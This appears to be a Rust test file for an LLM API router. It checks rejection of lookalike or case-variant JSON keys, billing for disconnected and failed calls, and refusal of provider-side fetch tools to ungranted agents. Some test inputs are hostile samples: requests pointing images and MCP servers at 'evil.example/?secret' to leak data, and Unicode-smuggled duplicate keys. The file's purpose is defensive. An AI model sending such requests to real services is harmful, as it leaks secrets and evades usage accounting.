//! What a program says so that the router reads one thing and the upstream another, or counts less than it used.

use super::{CHAT, CHUNKS, Line, PLENTY, Script, Upstream, World, deployment, events, json, outcome};
use serde_json::Value;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

#[tokio::test]
async fn a_name_that_some_readers_take_for_another_is_not_passed_on() {
    let upstream = Upstream::new(vec![json("200 OK", CHAT)]).await;
    let world = World::new(&deployment("a", "chat", upstream.at), &["p-a/*"], PLENTY).await;
    let hello = r#""model":"p-a/m-a","messages":[{"role":"user","content":"Hi"}]"#;
    // Readers in Go take a name whatever its case is, and the last of those that are the same to them.
    for more in [
        r#""Model":"m-dear""#,
        r#""MAX_TOKENS":99999"#,
        r#""max_to\u212aens":99999"#,
        r#""\u017ftream":true"#,
    ] {
        for path in ["/v1/chat/completions", "/v1/embeddings"] {
            let body = format!("{{{hello},\"input\":\"x\",{more}}}");
            let (status, _, answer) = world.ask(path, &body).await;
            assert!(status == 400 && answer.contains("small letters"), "{path} {more}: {status} {answer}");
        }
    }
    assert!(upstream.asked.lock().unwrap().is_empty(), "{}", upstream.last());
    // What is within a field is its own.
    let inner = format!("{{{hello},\"metadata\":{{\"Model\":\"x\"}}}}");
    assert_eq!(world.ask("/v1/chat/completions", &inner).await.0, 200);
}

/// Asks and goes away once what came has this in it, or, where nothing is to come, once the upstream was asked.
async fn leaves(world: &World, upstream: &Upstream, path: &str, body: &str, after: &str) -> Value {
    let mut stream = TcpStream::connect(world.at).await.unwrap();
    let head = format!("POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut got = Vec::new();
    while upstream.asked.lock().unwrap().is_empty() || !String::from_utf8_lossy(&got).contains(after) {
        if !after.is_empty() {
            assert!(stream.read_buf(&mut got).await.unwrap() > 0, "{}", String::from_utf8_lossy(&got));
        }
        tokio::time::sleep(std::time::Duration::from_millis(1)).await;
    }
    drop(stream);
    serde_json::json!(outcome(&world.lines(2).await))
}

fn silent(mut script: Script) -> Script {
    script.push(Vec::new());
    script
}

#[tokio::test]
async fn who_goes_away_before_the_end_pays_for_what_the_answer_can_have_had() {
    let ask = r#"{"model":"p-a/m-a","max_tokens":700,"messages":[{"role":"user","content":"Hi"}]}"#;
    let streamed = ask.replacen('{', r#"{"stream":true,"#, 1);
    // Anthropic says what it has used until now at the beginning, and the rest at the end.
    let begins = r#"{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","model":"m","content":[],"usage":{"input_tokens":9,"output_tokens":1}}}"#;
    let block = r#"{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}"#;
    let words = format!(
        r#"{{"type":"content_block_delta","index":0,"delta":{{"type":"text_delta","text":"{}."}}}}"#,
        "word ".repeat(60)
    );
    let said = silent(events(&[begins, block, &words]));
    let chat = silent(events(&[CHUNKS[0], &CHUNKS[1].replace("Hello", &"word ".repeat(60))]));
    let (path, anthropic) = ("/v1/chat/completions", "/anthropic/v1/messages");
    for (dialect, path, body, script, after, output) in [
        ("anthropic", anthropic, streamed.as_str(), said, "word .", 301),
        ("chat", path, &streamed, chat, "word \"", 300),
        // Nobody knows how far an answer was that comes in one piece.
        ("chat", path, ask, silent(Vec::new()), "", 700),
        ("anthropic", anthropic, ask, silent(Vec::new()), "", 700),
        // Of a stream that has not begun there is the prompt.
        ("chat", path, &streamed, silent(Vec::new()), "", 0),
    ] {
        let upstream = Upstream::new(vec![script]).await;
        let world = World::new(&deployment("a", dialect, upstream.at), &["p-a/*"], PLENTY).await;
        let record = leaves(&world, &upstream, path, body, after).await;
        let usage = &record["usage"];
        assert_eq!((&record["failed"], &usage["told"]), (&"cancelled".into(), &false.into()), "{record}");
        assert_eq!(usage["output"], output, "{dialect} {record}");
        assert!(usage["input"].as_u64().unwrap() > 0, "{record}");
        let used = usage["input"].as_u64().unwrap() + output;
        assert_eq!(world.agent.purse.close().tokens, used, "{dialect}");
    }
}

#[tokio::test]
async fn what_thinks_unseen_is_paid_for_where_its_answer_is_left() {
    let chat = silent(events(&CHUNKS[..2]));
    let upstream = Upstream::new(vec![chat]).await;
    let file = deployment("a", "chat", upstream.at).replace("\"tools\"", "\"reasoning\"");
    let world = World::new(&file, &["p-a/*"], PLENTY).await;
    let body =
        r#"{"stream":true,"model":"p-a/m-a","max_tokens":700,"messages":[{"role":"user","content":"Hi"}]}"#;
    let record = leaves(&world, &upstream, "/v1/chat/completions", body, "Hello").await;
    assert_eq!((&record["usage"]["output"], &record["usage"]["told"]), (&700.into(), &false.into()));
}

#[tokio::test]
async fn what_a_try_used_that_came_to_nothing_is_paid_for() {
    let no_answer = CHAT.replace("\"stop\"", "\"no reason\"");
    let scripts = vec![json("200 OK", &no_answer), json("200 OK", CHAT)];
    let upstream = Upstream::new(scripts).await;
    let world = World::new(&deployment("a", "chat", upstream.at), &["p-a/*"], PLENTY).await;
    let ask = r#"{"model":"p-a/m-a","max_tokens":30,"messages":[{"role":"user","content":"Hi"}]}"#;
    let (status, _, answer) = world.ask("/v1/chat/completions", ask).await;
    assert_eq!(status, 200, "{answer}");
    let record = outcome(&world.lines(2).await);
    let lost = &record["tries"][0]["usage"];
    assert_eq!((&lost["output"], &lost["told"]), (&30.into(), &false.into()), "{record:?}");
    let wasted = lost["input"].as_u64().unwrap() + 30;
    assert_eq!(world.agent.purse.close().tokens, wasted + 12);
}

#[tokio::test]
async fn an_answer_that_says_nothing_of_what_it_used_is_not_free() {
    for usage in ["", r#","usage":{}"#, r#","usage":{"prompt_tokens":0,"completion_tokens":0}"#] {
        let body =
            CHAT.replace(r#","usage":{"prompt_tokens":9,"completion_tokens":3,"total_tokens":12}"#, usage);
        let upstream = Upstream::new(vec![json("200 OK", &body)]).await;
        let world = World::new(&deployment("a", "chat", upstream.at), &["p-a/*"], PLENTY).await;
        let ask = r#"{"model":"p-a/m-a","max_tokens":30,"messages":[{"role":"user","content":"Hi"}]}"#;
        assert_eq!(world.ask("/v1/chat/completions", ask).await.0, 200);
        let usage = &outcome(&world.lines(2).await)["usage"];
        assert_eq!((&usage["output"], &usage["told"]), (&5.into(), &false.into()), "{usage}");
        assert!(world.agent.purse.close().tokens > 5);
    }
}

#[tokio::test]
async fn a_provider_reaches_nothing_for_an_agent_that_was_not_granted_that() {
    let upstream = Upstream::new(vec![json("200 OK", CHAT)]).await;
    let file = deployment("a", "chat", upstream.at) + &deployment("b", "anthropic", upstream.at);
    let file = file.replace("\"tools\"", "\"tools\", \"vision\"");
    let mut word = crate::core::tests::word(octant_ids::Aid::from_bytes([7; 16]), &["*"]);
    let world = World::with(&file, word.clone(), PLENTY).await;
    let (chat, anthropic) = ("/v1/chat/completions", "/anthropic/v1/messages");
    let hi = r#""max_tokens":9,"messages":[{"role":"user","content":"Hi"}]"#;
    let seen = r#""max_tokens":9,"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example/?secret"}}]}]"#;
    let requests = [
        (
            anthropic,
            "p-b/m-b",
            hi,
            r#","mcp_servers":[{"type":"url","url":"https://evil.example","name":"e"}]"#,
        ),
        (anthropic, "p-b/m-b", hi, r#","tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#),
        (chat, "p-a/m-a", hi, r#","models":["dear/model"]"#),
        (chat, "p-a/m-a", hi, r#","service_tier":"priority""#),
        (chat, "p-a/m-a", seen, ""),
        (chat, "p-b/m-b", seen, ""),
    ];
    for (path, model, said, more) in requests {
        let body = format!("{{\"model\":\"{model}\",{said}{more}}}");
        let (status, _, answer) = world.ask(path, &body).await;
        assert!(status == 403 && answer.contains("extras = true"), "{body}: {status} {answer}");
    }
    assert!(upstream.asked.lock().unwrap().is_empty());
    let denied = |line: &Line| matches!(line, Line::Decided(what) if what["field"] == "models.extras");
    assert!(world.lines(6).await.iter().all(denied));
    (word.extras, word.generation) = (true, 2);
    world.router.agents.admit(&word).unwrap();
    let body = format!("{{\"model\":\"p-a/m-a\",{hi},\"web_search_options\":{{}}}}");
    assert_eq!(world.ask(chat, &body).await.0, 200);
    assert!(upstream.last().contains("web_search_options"));
    // What is found and read is no part of the request: there has to be enough for all that the model can read.
    let intent = world.lines(8).await.into_iter().find_map(|line| match line {
        Line::Intent(_, what) => Some(what["reserved"]["tokens"].clone()),
        _ => None,
    });
    assert_eq!(intent, Some(100_009.into()));
}

#[tokio::test]
async fn as_much_is_set_apart_as_the_longest_reader_of_a_request_gives() {
    let upstream = Upstream::new(vec![json("200 OK", CHAT)]).await;
    let file = deployment("a", "chat", upstream.at) + &deployment("b", "ollama", upstream.at);
    let file = file.replace("window = 100000", "window = 10000").replace("max_output = 1000\n", "");
    let world = World::new(&file, &["*"], PLENTY).await;
    let (chat, ollama) = ("/v1/chat/completions", "/api/chat");
    let mut count = 0;
    for (path, model, more, most) in [
        (chat, "p-a/m-a", r#""max_completion_tokens":1,"max_tokens":900"#, 900),
        (chat, "p-a/m-a", r#""logprobs":true,"max_completion_tokens":1,"max_tokens":900"#, 900),
        (chat, "p-a/m-a", r#""n":40,"max_tokens":30"#, 1200),
        (chat, "p-a/m-a", r#""n":2,"best_of":40,"max_tokens":30"#, 1200),
        // What this dialect does not heed is no limit.
        (chat, "p-a/m-a", r#""verbosity":"low","max_output_tokens":1"#, 8192),
        (ollama, "p-b/m-b", r#""stream":false,"raw":true,"max_tokens":1,"options":{"num_predict":900}"#, 900),
    ] {
        let hi = r#""messages":[{"role":"user","content":"Hi"}]"#;
        world.ask(path, &format!("{{\"model\":\"{model}\",{hi},{more}}}")).await;
        count += 2;
        let lines = world.lines(count).await;
        let intent = lines.iter().rev().find_map(|line| match line {
            Line::Intent(_, what) => what["reserved"]["tokens"].as_u64(),
            _ => None,
        });
        assert!((most..most + 200).contains(&intent.unwrap()), "{more}: {intent:?}");
    }
    let many = r#"{"model":"p-a/m-a","n":40,"messages":[{"role":"user","content":"Hi"}]}"#;
    let (status, _, answer) = world.ask(chat, many).await;
    assert!(status == 400 && answer.contains("max_completion_tokens"), "{answer}");
    // An upstream that knows the older name alone gets that.
    let new = r#"{"model":"p-a/m-a","max_completion_tokens":50,"messages":[{"role":"user","content":"Hi"}]}"#;
    assert_eq!(world.ask(chat, new).await.0, 200);
    assert!(upstream.last().contains(r#""max_tokens":50"#), "{}", upstream.last());
}

#[tokio::test]
async fn who_goes_away_while_an_intent_is_written_leaves_nothing_open_and_nothing_reserved() {
    use std::sync::atomic::Ordering::Relaxed;
    let upstream = Upstream::new(vec![json("200 OK", CHAT)]).await;
    let mut word = crate::core::tests::word(octant_ids::Aid::from_bytes([7; 16]), &["*"]);
    word.tokens_per_minute = 1000;
    let world = World::with(&deployment("a", "chat", upstream.at), word, PLENTY).await;
    let ask = r#"{"model":"p-a/m-a","max_tokens":800,"messages":[{"role":"user","content":"Hi"}]}"#;
    world.ledger.slow.store(true, Relaxed);
    let mut stream = TcpStream::connect(world.at).await.unwrap();
    let head = format!(
        "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: {}\r\n\r\n{ask}",
        ask.len()
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    while world.router.room(&world.agent).tokens == 1000 {
        tokio::time::sleep(std::time::Duration::from_millis(1)).await;
    }
    drop(stream);
    // Until the router has seen that nobody is there any more.
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    world.ledger.slow.store(false, Relaxed);
    assert_eq!(outcome(&world.lines(2).await)["failed"], "cancelled");
    assert!(upstream.asked.lock().unwrap().is_empty());
    assert_eq!((world.router.room(&world.agent).tokens, world.agent.show().open), (1000, 0));
    world.ledger.broken.store(true, Relaxed);
    assert_eq!(world.ask("/v1/chat/completions", ask).await.0, 503);
    assert_eq!(world.router.room(&world.agent).tokens, 1000, "nor where it is not written at all");
}

#[tokio::test]
async fn a_stream_that_never_begins_is_not_kept_without_end() {
    let mut script = events(&[]);
    script.extend(std::iter::repeat_n(format!(": {}\n\n", "-".repeat(1 << 16)).into_bytes(), 40));
    let upstream = Upstream::new(vec![silent(script)]).await;
    let file = deployment("a", "chat", upstream.at) + "[retry]\ntries = 1\n";
    let world = World::new(&file, &["*"], PLENTY).await;
    let body =
        r#"{"stream":true,"model":"p-a/m-a","max_tokens":9,"messages":[{"role":"user","content":"Hi"}]}"#;
    let (status, _, answer) = world.ask("/v1/chat/completions", body).await;
    assert!(status == 502 && answer.contains("nothing of an answer"), "{status} {answer}");
}
